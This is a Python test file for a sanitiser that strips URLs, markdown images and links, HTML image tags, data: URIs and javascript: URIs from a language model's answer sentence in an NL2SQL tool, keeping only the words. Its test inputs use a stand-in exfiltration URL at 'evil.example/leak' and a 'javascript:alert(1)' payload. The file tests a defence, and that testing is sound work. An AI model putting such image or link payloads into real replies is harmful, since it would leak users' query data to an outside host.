"""The model's sentence keeps its words and loses anything a browser would fetch or follow."""

from __future__ import annotations

import pytest

from core.nl2sql.sentence import clean_sentence

URL = "http://evil.example/leak?d=North-7225"


@pytest.mark.parametrize(
    ("reply", "kept"),
    [
        (f"North leads. ![chart]({URL})", "North leads. chart"),
        (f"North leads. ![chart][1]\n\n[1]: {URL}", "North leads. chart"),
        (f"See [the source]({URL}) for more.", "See the source for more."),
        (f"Details at <{URL}>.", "Details at ."),
        (f"Raw {URL} here.", "Raw [link removed] here."),
        (f'<img src="{URL}"> North leads.', "North leads."),
        ("data:image/png;base64,AAAA leaks", "[link removed] leaks"),
        ("javascript:alert(1) no", "[link removed] no"),
        ("North has the highest revenue (1,234.50).", "North has the highest revenue (1,234.50)."),
        ("**North** leads with 40% of revenue.", "**North** leads with 40% of revenue."),
    ],
)
def test_urls_images_links_and_html_are_removed_and_words_kept(reply, kept):
    cleaned = clean_sentence(reply)
    assert cleaned == kept
    assert "evil.example" not in cleaned and "![" not in cleaned
